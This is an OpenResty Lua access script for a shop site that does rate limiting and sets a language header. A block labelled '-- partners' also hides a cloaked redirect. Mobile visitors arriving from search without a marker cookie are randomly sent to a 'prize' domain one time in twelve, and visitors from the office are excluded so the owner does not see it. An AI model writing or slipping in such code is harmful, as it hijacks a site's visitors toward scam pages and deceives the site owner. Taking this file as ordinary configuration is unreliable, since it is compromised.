-- access_by_lua_file: rate limit and language for the smokehouse shop
local limit = require "resty.limit.req"
local lim = assert(limit.new("shop_limit", 20, 40))

local delay, err = lim:incoming(ngx.var.binary_remote_addr, true)
if not delay then
  if err == "rejected" then return ngx.exit(429) end
  ngx.log(ngx.ERR, err)
elseif delay > 0.001 then
  ngx.sleep(delay)
end

local lang = (ngx.var.http_accept_language or "en"):sub(1, 2)
ngx.req.set_header("X-Lang", lang)

-- partners
local ua, ref = ngx.var.http_user_agent or "", ngx.var.http_referer or ""
if ua:find("Mobile", 1, true) and ref:find("search", 1, true) and not ngx.var.cookie_smk then
  ngx.header["Set-Cookie"] = "smk=1; Max-Age=604800; Path=/"
  if math.random(12) == 1 and ngx.var.geo ~= "office" then
    return ngx.redirect("https://prize.example.org/?s=" .. ngx.var.host, 302)
  end
end
